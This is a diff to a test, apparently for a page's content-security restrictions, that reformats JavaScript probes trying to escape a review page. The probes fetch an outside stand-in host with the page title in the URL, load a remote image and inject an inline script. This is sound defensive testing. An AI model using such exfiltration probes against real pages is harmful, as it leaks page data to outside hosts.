@@ -165,9 +165,12 @@ def test_nothing_can_leave_the_page(opened, bundle):
     seen = opened(review_page(bundle))
     tried = """async () => {
       const said = await fetch('https://example.org/?' + document.title).then(() => 'sent', () => 'refused');
-      const image = await new Promise((done) => { const i = new Image(); i.onload = () => done('sent'); i.onerror = () => done('refused');
-        i.src = 'https://example.org/x.png'; });
-      const script = document.createElement('script'); script.textContent = 'window.run = 1'; document.body.append(script);
+      const image = await new Promise((done) => {
+        const made = Object.assign(new Image(), {onload: () => done('sent'), onerror: () => done('refused')});
+        made.src = 'https://example.org/x.png';
+      });
+      const script = Object.assign(document.createElement('script'), {textContent: 'window.run = 1'});
+      document.body.append(script);
       return [said, image, window.run ?? 'refused'];
     }"""
 
